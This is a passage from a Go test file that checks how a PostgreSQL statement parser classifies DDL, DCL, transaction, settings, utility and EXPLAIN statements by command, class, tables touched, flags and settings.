	{"drop trigger", "DROP TRIGGER trg ON app.users", "DROP TRIGGER", ddl, "app.users()", "", "", ""},
	{"create sequence", "CREATE SEQUENCE s START 1", "CREATE SEQUENCE", ddl, "s()", "", "", ""},
	{"alter sequence", "ALTER SEQUENCE s RESTART WITH 10", "ALTER SEQUENCE", ddl, "s()", "", "", ""},
	{"create enum type", "CREATE TYPE mood AS ENUM ('sad', 'ok')", "CREATE TYPE", ddl, "", "", "", ""},
	{"create domain", "CREATE DOMAIN posint AS int CHECK (VALUE > 0)", "CREATE DOMAIN", ddl, "", "", "", ""},
	{"comment on table", "COMMENT ON TABLE users IS 'people'", "COMMENT", ddl, "users()", "", "", ""},
	{"comment on column", "COMMENT ON COLUMN public.users.email IS 'x'", "COMMENT", ddl, "public.users()", "", "", ""},
	{"security label", "SECURITY LABEL ON TABLE t IS 'x'", "SECURITY LABEL", ddl, "t()", "", "", ""},
	{"alter table foreign key", "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES other(id)", "ALTER TABLE", ddl, "other(); t()", "", "", ""},
	{"create partition", "CREATE TABLE t1 PARTITION OF p FOR VALUES IN (1)", "CREATE TABLE", ddl, "p(); t1()", "", "", ""},
	{"sql-standard function body", "CREATE FUNCTION f() RETURNS bigint LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM users; END", "CREATE FUNCTION", ddl, "users(select)", "count", "", ""},
	{"create database", "CREATE DATABASE x", "CREATE DATABASE", ddl, "", "", "", ""},
	{"alter database set", "ALTER DATABASE x SET search_path = a", "ALTER DATABASE", ddl, "", "", "", ""},
	{"create policy", "CREATE POLICY p ON users USING (owner = current_user)", "CREATE POLICY", ddl, "users()", "", "", ""},
	{"create rule", "CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING", "CREATE RULE", ddl, "t()", "", "", ""},

	// DCL
	{"grant table", "GRANT SELECT, INSERT ON users TO app", "GRANT", dcl, "users()", "", "", ""},
	{"grant all in schema", "GRANT ALL ON ALL TABLES IN SCHEMA public TO app", "GRANT", dcl, "", "", "", ""},
	{"revoke column", "REVOKE UPDATE (email) ON users FROM app", "REVOKE", dcl, "users()", "", "", ""},
	{"grant role", "GRANT admin TO bob", "GRANT ROLE", dcl, "", "", "", ""},
	{"revoke role", "REVOKE admin FROM bob", "REVOKE ROLE", dcl, "", "", "", ""},
	{"create role", "CREATE ROLE bob LOGIN PASSWORD 'secret'", "CREATE ROLE", dcl, "", "", "", ""},
	{"create user", "CREATE USER alice WITH SUPERUSER", "CREATE ROLE", dcl, "", "", "", ""},
	{"alter role", "ALTER ROLE bob WITH SUPERUSER", "ALTER ROLE", dcl, "", "", "", ""},
	{"alter user set", "ALTER USER bob SET search_path = x", "ALTER ROLE", dcl, "", "", "", ""},
	{"drop role", "DROP ROLE IF EXISTS bob", "DROP ROLE", dcl, "", "", "", ""},
	{"drop user", "DROP USER bob", "DROP ROLE", dcl, "", "", "", ""},
	{"set role", "SET ROLE admin", "SET", dcl, "", "", "set_role", "role=admin"},
	{"set local role", "SET LOCAL ROLE admin", "SET", dcl, "", "", "set_role", "role=admin local"},
	{"set role as variable", "SET role = 'admin'", "SET", dcl, "", "", "set_role", "role=admin"},
	{"set role none", "SET ROLE NONE", "SET", dcl, "", "", "set_role", "role=none"},
	{"reset role", "RESET ROLE", "RESET", dcl, "", "", "set_role", "role= reset"},
	{"set session authorization", "SET SESSION AUTHORIZATION 'bob'", "SET", dcl, "", "", "set_session_authorization", "session_authorization=bob"},
	{"set session authorization default", "SET SESSION AUTHORIZATION DEFAULT", "SET", dcl, "", "", "set_session_authorization", "session_authorization= reset"},
	{"reset session authorization", "RESET SESSION AUTHORIZATION", "RESET", dcl, "", "", "set_session_authorization", "session_authorization= reset"},
	{"alter system", "ALTER SYSTEM SET max_connections = 1000", "ALTER SYSTEM", dcl, "", "", "", ""},
	{"alter system reset", "ALTER SYSTEM RESET ALL", "ALTER SYSTEM", dcl, "", "", "", ""},
	{"alter default privileges", "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO app", "ALTER DEFAULT PRIVILEGES", dcl, "", "", "", ""},
	{"reassign owned", "REASSIGN OWNED BY bob TO alice", "REASSIGN OWNED", dcl, "", "", "", ""},
	{"drop owned", "DROP OWNED BY bob", "DROP OWNED", dcl, "", "", "", ""},

	// transaction control
	{"begin", "BEGIN", "BEGIN", txn, "", "", "", ""},
	{"begin isolation", "BEGIN ISOLATION LEVEL SERIALIZABLE", "BEGIN", txn, "", "", "", ""},
	{"start transaction", "START TRANSACTION READ ONLY", "START TRANSACTION", txn, "", "", "", ""},
	{"commit", "COMMIT", "COMMIT", txn, "", "", "", ""},
	{"end", "END", "COMMIT", txn, "", "", "", ""},
	{"commit and chain", "COMMIT AND CHAIN", "COMMIT", txn, "", "", "", ""},
	{"rollback", "ROLLBACK", "ROLLBACK", txn, "", "", "", ""},
	{"abort", "ABORT", "ROLLBACK", txn, "", "", "", ""},
	{"savepoint", "SAVEPOINT sp", "SAVEPOINT", txn, "", "", "", ""},
	{"release", "RELEASE SAVEPOINT sp", "RELEASE", txn, "", "", "", ""},
	{"rollback to savepoint", "ROLLBACK TO SAVEPOINT sp", "ROLLBACK", txn, "", "", "", ""},
	{"prepare transaction", "PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION", txn, "", "", "", ""},
	{"commit prepared", "COMMIT PREPARED 'x'", "COMMIT PREPARED", txn, "", "", "", ""},
	{"rollback prepared", "ROLLBACK PREPARED 'x'", "ROLLBACK PREPARED", txn, "", "", "", ""},

	// utility: settings
	{"set search_path list", `SET search_path TO app, "Public"`, "SET", util, "", "", "", "search_path="},
	{"set search_path single", "SET search_path = app", "SET", util, "", "", "", "search_path=app"},
	{"set number", "SET statement_timeout = 5000", "SET", util, "", "", "", "statement_timeout=5000"},
	{"set string", "set Statement_Timeout = '5s'", "SET", util, "", "", "", "statement_timeout=5s"},
	{"set local token", "SET LOCAL dbal.token = 'eyJhbGciOi.x.y'", "SET", util, "", "", "", "dbal.token=eyJhbGciOi.x.y local"},
	{"set time zone", "SET TIME ZONE 'UTC'", "SET", util, "", "", "", "timezone=UTC"},
	{"set names", "SET NAMES 'UTF8'", "SET", util, "", "", "", "client_encoding=UTF8"},
	{"set to default", "SET work_mem TO DEFAULT", "SET", util, "", "", "", "work_mem= reset"},
	{"set transaction", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET", util, "", "", "", "transaction="},
	{"reset", "RESET search_path", "RESET", util, "", "", "", "search_path= reset"},
	{"reset all", "RESET ALL", "RESET", util, "", "", "", "all= reset"},
	{"set constraints", "SET CONSTRAINTS ALL DEFERRED", "SET CONSTRAINTS", util, "", "", "", ""},
	{"show", "SHOW search_path", "SHOW", read, "", "", "", ""},
	{"show all", "SHOW ALL", "SHOW", read, "", "", "", ""},

	// utility: other
	{"discard all", "DISCARD ALL", "DISCARD ALL", util, "", "", "", ""},
	{"discard temp", "DISCARD TEMP", "DISCARD TEMP", util, "", "", "", ""},
	{"listen", "LISTEN chan", "LISTEN", util, "", "", "", ""},
	{"notify", "NOTIFY chan, 'payload'", "NOTIFY", util, "", "", "", ""},
	{"unlisten", "UNLISTEN *", "UNLISTEN", util, "", "", "", ""},
	{"vacuum table", "VACUUM (VERBOSE, ANALYZE) users", "VACUUM", util, "users()", "", "", ""},
	{"vacuum full", "VACUUM FULL", "VACUUM", util, "", "", "", ""},
	{"analyze", "ANALYZE users (email)", "ANALYZE", util, "users()", "", "", ""},
	{"do", "DO $$ BEGIN PERFORM 1; END $$", "DO", util, "", "", "", ""},
	{"call", "CALL do_stuff(1, 'a')", "CALL", util, "", "do_stuff", "", ""},
	{"call qualified with param", "CALL app.proc($1)", "CALL", util, "", "app.proc", "has_params", ""},
	{"prepare select", "PREPARE q (int) AS SELECT * FROM users WHERE id = $1", "PREPARE", util, "users(select) select:*,id", "", "has_params", ""},
	{"prepare delete", "PREPARE d AS DELETE FROM users WHERE id = $1", "PREPARE", util, "users(delete,select) select:id", "", "has_params", ""},
	{"execute", "EXECUTE q (1)", "EXECUTE", util, "", "", "", ""},
	{"deallocate", "DEALLOCATE q", "DEALLOCATE", util, "", "", "", ""},
	{"deallocate all", "DEALLOCATE ALL", "DEALLOCATE ALL", util, "", "", "", ""},
	{"declare cursor", "DECLARE c CURSOR WITH HOLD FOR SELECT id FROM users", "DECLARE CURSOR", read, "users(select) select:id", "", "", ""},
	{"fetch", "FETCH 10 FROM c", "FETCH", read, "", "", "", ""},
	{"move", "MOVE NEXT IN c", "MOVE", read, "", "", "", ""},
	{"close", "CLOSE c", "CLOSE CURSOR", util, "", "", "", ""},
	{"close all", "CLOSE ALL", "CLOSE CURSOR ALL", util, "", "", "", ""},
	{"lock", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", "LOCK TABLE", util, "users()", "", "", ""},
	{"lock several", "LOCK a, app.b", "LOCK TABLE", util, "a(); app.b()", "", "", ""},
	{"checkpoint", "CHECKPOINT", "CHECKPOINT", util, "", "", "", ""},
	{"load", "LOAD 'auto_explain'", "LOAD", util, "", "", "", ""},
	{"cluster", "CLUSTER users USING idx", "CLUSTER", util, "users()", "", "", ""},
	{"reindex", "REINDEX TABLE users", "REINDEX", util, "users()", "", "", ""},

	// EXPLAIN
	{"explain select", "EXPLAIN SELECT * FROM users", "EXPLAIN", read, "users(select) select:*", "", "", ""},
	{"explain analyze select", "EXPLAIN (ANALYZE, BUFFERS) SELECT 1", "EXPLAIN", read, "", "", "explain_analyze", ""},
	{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM users", "EXPLAIN", write, "users(delete)", "", "explain_analyze", ""},
	{"explain analyze off", "EXPLAIN (ANALYZE false) DELETE FROM users", "EXPLAIN", read, "users(delete)", "", "", ""},
	{"explain analyze off as 0", "EXPLAIN (ANALYZE 0) DELETE FROM users", "EXPLAIN", read, "users(delete)", "", "", ""},
	// defGetBoolean knows only true/false/on/off and 0/1: PostgreSQL
	// rejects these, the parser does not guess that they mean off.
	{"explain analyze f", "EXPLAIN (ANALYZE f) DELETE FROM users", "EXPLAIN", write, "users(delete)", "", "explain_analyze", ""},
	{"explain analyze 2", "EXPLAIN (ANALYZE 2) DELETE FROM users", "EXPLAIN", write, "users(delete)", "", "explain_analyze", ""},
	{"explain update", "EXPLAIN UPDATE users SET a = 1", "EXPLAIN", read, "users(update) update:a", "", "", ""},
	{"explain analyze create table as", "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", "EXPLAIN", ddl, "x()", "", "explain_analyze", ""},
}

func TestFacts(t *testing.T) {
	p := New(Options{})
	for _, tc := range factCases {
		t.Run(tc.name, func(t *testing.T) {
			res, err := p.Parse(tc.sql)
			if err != nil {
				t.Fatalf("Parse(%q): %v", tc.sql, err)
			}
			if len(res.Statements) != 1 {
				t.Fatalf("Parse(%q): %d statements, want 1", tc.sql, len(res.Statements))
			}
			st := res.Statements[0]
			check := func(what, got, want string) {
				t.Helper()
				if got != want {
					t.Errorf("%s:\n got  %q\n want %q", what, got, want)
				}
			}
			check("Command", st.Command, tc.cmd)
			check("Class", string(st.Class), string(tc.class))
			check("Tables", fmtTables(st.Tables), sortedTables(tc.tables))
			check("Functions", fmtFuncs(st.Functions), tc.funcs)
			check("Flags", strings.Join(st.Flags, ","), tc.flags)
			check("Setting", fmtSetting(st.Setting), tc.setting)
		})
	}
}

// sortedTables lets expectations list tables in any order: it re-sorts the
// "; "-separated entries as Statement.Tables is sorted (schema, then name).
func sortedTables(s string) string {
	if s == "" {
		return ""
	}
	parts := strings.Split(s, "; ")
	key := func(e string) (string, string) {
		name, _, _ := strings.Cut(e, "(")
		if schema, rel, ok := strings.Cut(name, "."); ok {
			return schema, rel
		}
		return "", name
	}
	for i := 1; i < len(parts); i++ {
		for j := i; j > 0; j-- {
			s1, n1 := key(parts[j-1])
			s2, n2 := key(parts[j])
			if s1 < s2 || (s1 == s2 && n1 <= n2) {
				break
			}
			parts[j-1], parts[j] = parts[j], parts[j-1]
		}
	}
	return strings.Join(parts, "; ")
}

func TestFactCaseCount(t *testing.T) {
	if len(factCases) < 150 {
		t.Fatalf("%d fact cases, want at least 150", len(factCases))
	}
}
